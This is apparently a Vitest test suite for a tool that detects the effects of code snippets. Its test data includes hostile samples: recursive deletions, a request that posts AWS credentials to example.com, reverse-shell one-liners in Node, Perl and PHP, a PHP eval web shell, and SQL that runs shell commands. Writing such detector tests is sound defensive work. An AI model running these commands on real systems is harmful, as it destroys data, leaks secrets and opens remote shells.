import { describe, expect, test } from 'vitest';
import { CWD, effectsOf, told } from './world.ts';

describe('JavaScript', () => {
  test.each([
    ['require("fs").unlinkSync("a")', `fs.delete ${CWD}/a`],
    [
      'import { rm } from "node:fs/promises"; await rm("src", { recursive: true, force: true })',
      `fs.delete ${CWD}/src`,
    ],
    ['const { rmSync: r } = require("fs"); const d = `${"sr"}c`; r(d, {recursive: true})', `fs.delete ${CWD}/src`],
    [
      'const fs = require("fs"), path = require("path"); for (const f of fs.readdirSync("logs")) fs.unlinkSync(path.join("logs", f))',
      `fs.delete ?${CWD}/logs`,
    ],
    ['require("fs").readdirSync("logs").forEach(f => require("fs").unlinkSync("logs/" + f))', `fs.delete ?${CWD}/logs`],
    ['require("child_process").execSync("rm -rf src")', `fs.delete ${CWD}/src`],
    ['const { spawn } = require("child_process"); spawn("rm", ["-rf", "src"])', `fs.delete ${CWD}/src`],
    ["eval(\"require('fs').unlinkSync('a')\")", `fs.delete ${CWD}/a`],
    ["new Function(\"require('fs').unlinkSync('a')\")()", `fs.delete ${CWD}/a`],
    ['require("fs")["unlinkSync"]("a")', `fs.delete ${CWD}/a`],
    ['const x: string = "a"; (await import("fs")).writeFileSync(x, "1")', `fs.write ${CWD}/a`],
    [
      'fetch("https://example.com", { method: "POST", body: require("fs").readFileSync("/home/ada/.aws/credentials") })',
      'secret.send https://example.com',
    ],
    ['const n = process.stdin.read(); require("fs")[n]("a")', 'opaque'],
    [
      'const net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);const c=new net.Socket();c.connect(1,"h",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);})',
      'net.reverse-shell h',
    ],
  ])('%s', (code, expected) => {
    expect(told(effectsOf('node -', code))).toContain(expected);
  });

  test.each([
    ['const s = require("fs").readFileSync("a.json", "utf8"); console.log(JSON.parse(s).name)'],
    ['const m = new Map(); m.delete("a"); [1].map(x => x).filter(Boolean); /rm -rf/.exec("x")'],
    ['let s=""; process.stdin.on("data", d => s += d); process.stdin.on("end", () => console.log(s))'],
  ])('only computes: %s', (code) => {
    expect(effectsOf('node -', code).filter((effect) => effect.kind !== 'fs.read')).toEqual([]);
  });
});

describe('Perl', () => {
  test.each([
    ['unlink "a", "b";', `fs.delete ${CWD}/a`],
    ['my $d = "src"; system("rm -rf $d");', `fs.delete ${CWD}/src`],
    ['`rm -rf src`;', `fs.delete ${CWD}/src`],
    ['exec "rm", "-rf", "src";', `fs.delete ${CWD}/src`],
    ['use File::Path; rmtree("src");', `fs.delete ${CWD}/src`],
    ['unlink glob("logs/*.txt");', `fs.delete ${CWD}/logs/*.txt`],
    ['unlink $_ for glob("logs/*");', `fs.delete ${CWD}/logs/*`],
    ['open(my $h, ">", "a.txt"); print $h "x";', `fs.write ${CWD}/a.txt`],
    [
      'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,x())){open(STDIN,">&S");exec("/bin/sh -i");};',
      'net.reverse-shell a computed address',
    ],
  ])('%s', (code, expected) => {
    expect(told(effectsOf('perl -', code))).toContain(expected);
  });
});

describe('Ruby', () => {
  test.each([
    ['File.delete("a")', `fs.delete ${CWD}/a`],
    ['require "fileutils"\nd = "src"\nFileUtils.rm_rf d', `fs.delete ${CWD}/src`],
    ['Dir.glob("logs/*").each { |f| File.delete(f) }', `fs.delete ${CWD}/logs/*`],
    ['system("rm -rf #{"src"}")', `fs.delete ${CWD}/src`],
    ['`rm -rf src`', `fs.delete ${CWD}/src`],
    ['File.write("a", "x")', `fs.write ${CWD}/a`],
  ])('%s', (code, expected) => {
    expect(told(effectsOf('ruby -', code))).toContain(expected);
  });
});

describe('PHP', () => {
  test.each([
    ['<?php unlink("a");', `fs.delete ${CWD}/a`],
    ['<?php $d = "src"; exec("rm -rf $d");', `fs.delete ${CWD}/src`],
    ['<?php echo `rm -rf src`;', `fs.delete ${CWD}/src`],
    ['<?php foreach (glob("logs/*") as $f) unlink($f);', `fs.delete ${CWD}/logs/*`],
    ['<?php $f = "unlink"; $f("a");', `fs.delete ${CWD}/a`],
    ['<?php file_put_contents("a", "x");', `fs.write ${CWD}/a`],
    ['<?php $s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");', 'net.reverse-shell h'],
    ['<?php eval($_GET["c"]);', 'run.remote-code a request'],
  ])('%s', (code, expected) => {
    expect(told(effectsOf('php', code))).toContain(expected);
  });
});

describe('SQL', () => {
  const sql = (text: string) =>
    effectsOf('psql app', text).map((effect) =>
      [effect.kind, effect.facts.statement ?? '', effect.facts.unbounded ?? false].join(' '),
    );
  test.each([
    ['SELECT 1', ['db.read  false']],
    ['DROP TABLE a', ['db.drop DROP TABLE false']],
    ["select '; drop table a;' -- drop table b", ['db.read  false']],
    ['TRUNCATE a, b CASCADE;', ['db.drop TRUNCATE false']],
    ['DELETE FROM a', ['db.write DELETE true']],
    ['DELETE FROM a WHERE id = 1', ['db.write DELETE false']],
    ['DELETE FROM a WHERE 1=1', ['db.write DELETE true']],
    ['UPDATE a SET b = 1', ['db.write UPDATE true']],
    ['with x as (delete from a returning *) select * from x', ['db.write DELETE true']],
    ['BEGIN; DELETE FROM a; ROLLBACK;', []],
    ['BEGIN; DELETE FROM a; COMMIT;', ['db.write DELETE true']],
    ['ALTER TABLE a DROP COLUMN b', ['db.drop ALTER DROP false']],
    ['/* DROP TABLE a */ SELECT 1', ['db.read  false']],
    ['DO $$ BEGIN DROP TABLE a; END $$;', ['db.drop DROP TABLE false']],
  ])('%s', (text, expected) => {
    expect(sql(text)).toEqual(expected);
  });

  test.each([
    ["COPY a TO PROGRAM 'rm -rf src'", `fs.delete ${CWD}/src`],
    ['\\! rm -rf src', `fs.delete ${CWD}/src`],
    ['GRANT ALL ON a TO b', 'cloud.permission'],
  ])('%s reaches beyond the database', (text, expected) => {
    expect(told(effectsOf('psql app', text))).toContain(expected);
  });
});

test.each(['python3 -', 'node -', 'perl -', 'ruby -', 'php', 'lua -', 'psql app', 'mongosh'])(
  '%s ends on hostile text',
  (program) => {
    const texts = [
      '('.repeat(4000),
      '{'.repeat(4000),
      '[[('.repeat(1000),
      '"'.repeat(999),
      'a.'.repeat(9000),
      `${'x = "'.repeat(500)}`,
      'f('.repeat(3000),
      '#{'.repeat(2000),
      '\u0000\ud800'.repeat(50),
    ];
    for (const text of texts) expect(() => effectsOf(program, text)).not.toThrow();
  },
);
